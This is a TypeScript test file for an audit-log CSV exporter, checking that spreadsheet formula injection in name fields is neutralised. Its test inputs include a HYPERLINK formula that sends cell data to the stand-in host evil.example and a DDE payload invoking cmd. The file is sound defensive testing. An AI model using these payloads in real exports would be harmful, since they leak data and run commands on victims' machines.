import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvHeader, csvLine } from "../../../agent/cli/admin/audit-csv.js";
import type { AuditEntry } from "../../../shared/protocol/audit-api.js";

const record = (more: Partial<AuditEntry>): AuditEntry => ({
  seq: 1,
  time: "2027-03-01T12:00:00.000Z",
  action: "grant",
  result: "done",
  subject: null,
  address: null,
  name: null,
  contentId: null,
  family: null,
  issuer: null,
  licenseDigest: null,
  device: null,
  proofKey: null,
  tokenId: null,
  ip: null,
  correlationId: null,
  until: null,
  detail: null,
  hash: "00",
  guest: false,
  ...more,
});

/** Fields as RFC 4180 has them, read by other code than what wrote them. */
function fieldsOf(line: string): string[] {
  const fields: string[] = [];
  const rest = line.replace(/\r\n$/, "");
  for (const [, quoted, plain = ""] of rest.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",]*))/g))
    fields.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
  return fields;
}

const nameIn = (line: string): string => fieldsOf(line)[csvHeader.trim().split(",").indexOf("name")]!;

describe("a record as a line of CSV", () => {
  it.each([
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    " \t=1+1",
    "\r=1+1",
    "\n@x",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\uff201",
  ])("%j is a text to a spreadsheet", (name) => {
    expect(nameIn(csvLine(record({ name })))).toMatch(/^'/);
  });

  it("keeps what is harmless as it is", () => {
    for (const name of ["Ada Lovelace", "Ängström, Åsa", 'the "boss"', "a-b=c@d+e", "1-1"])
      expect(nameIn(csvLine(record({ name })))).toBe(name);
    expect(csvLine(record({ detail: "VIEW PRINT" }))).toContain(",VIEW PRINT,");
  });

  it("is one line with as many fields as there are columns, whatever a name is, and never a formula", () => {
    const columns = csvHeader.trim().split(",").length;
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), (name) => {
        const line = csvLine(record({ name, detail: name }));
        expect(line.match(/[\r\n\u2028\u2029\u0085]/g)).toEqual(["\r", "\n"]);
        expect(fieldsOf(line)).toHaveLength(columns);
        expect(nameIn(line)).not.toMatch(/^\s*[=+\-@]/);
      }),
    );
  });
});
